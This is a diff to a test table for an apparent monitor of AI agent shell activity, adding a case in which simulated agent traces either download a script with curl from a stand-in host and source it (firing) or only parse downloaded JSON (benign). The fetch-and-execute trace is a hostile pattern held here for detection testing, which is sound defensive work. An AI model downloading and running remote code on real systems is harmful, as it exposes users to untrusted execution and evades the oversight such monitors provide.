@@ -192,6 +192,39 @@ const CASES: Record<string, Case> = {
         .exec(3, 1, `${WS}/.venv/bin/pytest`, ['pytest'], { interpreter: `${WS}/.venv/bin/python3.11` })
         .exec(4, 1, '/usr/bin/sh', ['sh', '-c', 'true'], { interpreter: '/usr/bin/dash' }),
   },
+  'exec-downloaded-code': {
+    // A download sourced by the agent's shell, then one redirected to sh's input by a copy of it.
+    fire: (t) =>
+      void t
+        .exec(1, 0, '/usr/bin/sh', ['sh', 'agent.sh'])
+        .exec(2, 1, '/usr/bin/curl', ['curl', '-o', 'dl/run.sh', 'http://x/run.sh'])
+        .connect(2, BRIDGE, -115)
+        .open(2, `${WS}/dl/run.sh`, 'create')
+        .exit(2)
+        .open(1, `${WS}/dl/run.sh`)
+        .open(1, '/dev/null', 'create')
+        .exit(1),
+    // The agent's own script sourced and fed to sh; a download read as data by jq through a redirect.
+    benign: (t) =>
+      void t
+        .exec(1, 0, '/usr/bin/sh', ['sh', 'agent.sh'])
+        .exec(2, 1, '/usr/bin/curl', ['curl', '-o', 'dl/data.json', 'http://x/data.json'])
+        .connect(2, BRIDGE, -115)
+        .open(2, `${WS}/dl/data.json`, 'create')
+        .exit(2)
+        .open(1, `${WS}/dl/data.json`)
+        .fork(1, 4)
+        .exec(4, 1, '/usr/bin/jq', ['jq', '.'])
+        .exit(4)
+        .open(1, `${WS}/own.sh`, 'create')
+        .open(1, `${WS}/own.sh`)
+        .open(1, '/dev/null', 'create')
+        .open(1, `${WS}/own.sh`)
+        .fork(1, 3)
+        .exec(3, 1, '/usr/bin/sh', ['sh'])
+        .exit(3)
+        .exit(1),
+  },
   'exec-privilege-tool': {
     fire: (t) => void t.exec(2, 1, '/usr/bin/sudo', ['sudo', 'id']),
     benign: (t) =>
